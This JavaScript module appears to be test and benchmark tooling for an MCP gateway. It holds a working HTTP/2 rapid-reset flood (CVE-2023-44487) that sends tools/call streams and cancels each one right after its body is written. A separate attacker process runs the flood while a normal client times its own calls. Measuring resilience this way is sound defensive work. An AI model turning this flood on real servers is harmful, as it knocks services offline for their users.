// The HTTP/2 rapid-reset attacker (CVE-2023-44487) of the tests and the benchmark: streams each
// carrying a whole tools/call POST, reset by the client (RST_STREAM CANCEL) as soon as they are
// written, over one or a few connections, bounded in count and time; and a well-behaved h2
// client that times its tools/call for percentiles.
import { spawn } from 'node:child_process';
import fs from 'node:fs';
import http2 from 'node:http2';
import { fileURLToPath } from 'node:url';
import { DEFAULT_HEADERS, H2Client, LATEST_PROTOCOL, McpSession, initializeBody, initializeSession, newId } from './http.mjs';

function h2Headers(session, path) {
    const h = { ':method': 'POST', ':path': path };
    for (const [k, v] of Object.entries({ ...DEFAULT_HEADERS, ...session.headers() })) {
        h[k.toLowerCase()] = v;
    }
    return h;
}

function callBody(tool, args) {
    return JSON.stringify({ jsonrpc: '2.0', id: newId(), method: 'tools/call', params: { name: tool, arguments: args } });
}

/**
 * Opens `connections` h2 connections to origin and on each sends up to `count` tools/call
 * streams, every one reset right after its body (`burst` per loop turn), for at most `ms`.
 * Resolves with {sent (streams reset), perConn, closedAfter (for each connection: the streams it
 * had sent when the server closed it, or null), localPorts, elapsedMs}. `ca` for https origins;
 * `localAddress` to come from another loopback address than the client being measured.
 */
export async function resetFlood(origin, mcpSession, { path = '/mcp', tool, args = {}, connections = 1, count = 10000, burst = 50, ms = 10000, ca, localAddress } = {}) {
    const headers = h2Headers(mcpSession, path);
    const t0 = Date.now();
    const one = async () => {
        const conn = http2.connect(origin, { ...(ca ? { ca } : {}), ...(localAddress ? { localAddress } : {}) });
        conn.on('error', () => {});
        let closed = false;
        conn.on('close', () => (closed = true));
        await new Promise((resolve) => {
            conn.once('connect', resolve);
            conn.once('close', resolve);
        });
        const localPort = conn.socket?.localPort;
        let sent = 0;
        let closedAfter = null;
        for (let turn = 1; !closed && sent < count && Date.now() - t0 < ms; turn++) {
            if (turn % 20 === 0 && localPort > 0 && !tcpEstablished(localPort)) {
                break;
            }
            for (let i = 0; i < burst && !closed && sent < count; i++) {
                let stream;
                try {
                    stream = conn.request(headers, { endStream: false });
                } catch {
                    closed = true;
                    break;
                }
                stream.on('error', () => {});
                // reset once the body is written: RST_STREAM sent with it would drop the DATA
                // frame, and h2o would never hand the request on
                stream.end(callBody(tool, args), () => stream.close(http2.constants.NGHTTP2_CANCEL));
                sent++;
            }
            await new Promise((resolve) => setImmediate(resolve));
        }
        // node may have queued them all before the server read them, and over TLS it may not
        // notice the close at all: wait for the kernel to say so
        const gone = () => closed || (localPort > 0 && !tcpEstablished(localPort));
        for (let waited = 0; !gone() && waited < 2000; waited += 50) {
            await new Promise((resolve) => setTimeout(resolve, 50));
        }
        if (gone()) {
            closedAfter = sent;
        }
        conn.destroy();
        return { sent, closedAfter, localPort };
    };
    const results = await Promise.all(Array.from({ length: connections }, one));
    return {
        sent: results.reduce((a, r) => a + r.sent, 0),
        perConn: results.map((r) => r.sent),
        closedAfter: results.map((r) => r.closedAfter),
        localPorts: results.map((r) => r.localPort),
        elapsedMs: Date.now() - t0,
    };
}

/**
 * A well-behaved client on its own h2 connection: tools/call one after another until `until()`
 * says stop (or `max` calls). Resolves with {n, errors, latencies (ms, sorted)}.
 */
export async function timedCalls(origin, mcpSession, { path = '/mcp', tool, args = {}, until, max = 100000, ca } = {}) {
    const conn = http2.connect(origin, ca ? { ca } : {});
    conn.on('error', () => {});
    const headers = h2Headers(mcpSession, path);
    const latencies = [];
    let errors = 0;
    for (let i = 0; i < max && !until(); i++) {
        const t0 = process.hrtime.bigint();
        const ok = await new Promise((resolve) => {
            const stream = conn.request(headers, { endStream: false });
            let text = '';
            let status = 0;
            stream.setEncoding('utf8');
            stream.on('response', (h) => (status = h[':status']));
            stream.on('data', (d) => (text += d));
            stream.on('end', () => resolve(status === 200 && text.includes('"result"')));
            stream.on('error', () => resolve(false));
            stream.end(callBody(tool, args));
        });
        latencies.push(Number(process.hrtime.bigint() - t0) / 1e6);
        if (!ok) {
            errors++;
        }
    }
    conn.destroy();
    latencies.sort((a, b) => a - b);
    return { n: latencies.length, errors, latencies };
}

/** The q-quantile (0..1) of sorted values. */
export function quantile(sorted, q) {
    if (sorted.length === 0) {
        return NaN;
    }
    return sorted[Math.min(sorted.length - 1, Math.floor(q * sorted.length))];
}

/** Is a TCP connection from 127.0.0.1:localPort established (from /proc/net/tcp)? */
export function tcpEstablished(localPort) {
    const hex = localPort.toString(16).toUpperCase().padStart(4, '0');
    for (const f of ['/proc/net/tcp', '/proc/net/tcp6']) {
        let text = '';
        try {
            text = fs.readFileSync(f, 'utf8');
        } catch {
            continue;
        }
        for (const line of text.split('\n').slice(1)) {
            const col = line.trim().split(/\s+/);
            if (col.length > 3 && col[1].endsWith(`:${hex}`) && col[3] === '01') {
                return true;
            }
        }
    }
    return false;
}

/** initialize + notifications/initialized over h2 with a CA (fetch has no CA option). */
export async function initializeOverH2(origin, url, ca) {
    const c = new H2Client(origin);
    c.session.destroy();
    c.session = http2.connect(origin, { ca });
    c.session.on('error', () => {});
    const mcpPath = new URL(url).pathname;
    const r = await c.request(mcpPath, { headers: DEFAULT_HEADERS, body: initializeBody(LATEST_PROTOCOL) });
    if (r.status !== 200 || !r.headers['mcp-session-id']) {
        throw new Error(`initialize over h2: HTTP ${r.status}: ${r.text.slice(0, 300)}`);
    }
    const s = new McpSession(url, r.headers['mcp-session-id'], LATEST_PROTOCOL, null);
    const n = await c.request(mcpPath, { headers: { ...DEFAULT_HEADERS, ...s.headers() }, body: { jsonrpc: '2.0', method: 'notifications/initialized' } });
    if (n.status !== 202) {
        throw new Error(`notifications/initialized over h2: HTTP ${n.status}`);
    }
    await c.close();
    return s;
}

/**
 * An attacker in a process of its own (so that its loop is not the one of the client being
 * measured), with a session of its own, flooding origin for ms and reconnecting whenever it is
 * closed. Resolves with {sent, cut (connections the server closed)}. caFile for https origins;
 * localAddress: the loopback address it floods from (its session is made from the default one);
 * cpus: a taskset CPU list to run it on (the benchmark keeps it off the gateway's CPUs).
 */
export function spawnAttacker(origin, url, ms, { caFile, tool = 'alpha_whoami', localAddress = '', cpus } = {}) {
    const argv = [process.execPath, fileURLToPath(import.meta.url), origin, url, String(ms), tool, localAddress, ...(caFile ? [caFile] : [])];
    const child = spawn(cpus ? 'taskset' : argv[0], cpus ? ['-c', cpus, ...argv] : argv.slice(1), {
        stdio: ['ignore', 'pipe', 'inherit'],
    });
    let out = '';
    child.stdout.on('data', (d) => (out += d));
    return new Promise((resolve, reject) => {
        child.on('exit', (code) => (code === 0 ? resolve(JSON.parse(out)) : reject(new Error(`attacker exited ${code}`))));
    });
}

async function attackerMain([origin, url, ms, tool, localAddress, caFile]) {
    const ca = caFile ? fs.readFileSync(caFile) : undefined;
    const s = ca ? await initializeOverH2(origin, url, ca) : await initializeSession(url);
    const end = Date.now() + Number(ms);
    let sent = 0;
    let cut = 0;
    while (Date.now() < end) {
        const f = await resetFlood(origin, s, { tool, count: 1e9, ms: end - Date.now(), ca, path: new URL(url).pathname, localAddress: localAddress || undefined });
        sent += f.sent;
        cut += f.closedAfter.filter((x) => x !== null).length;
    }
    console.log(JSON.stringify({ sent, cut }));
}

if (process.argv[1] === fileURLToPath(import.meta.url)) {
    attackerMain(process.argv.slice(2)).then(
        () => process.exit(0),
        (err) => {
            console.error(err);
            process.exit(1);
        },
    );
}
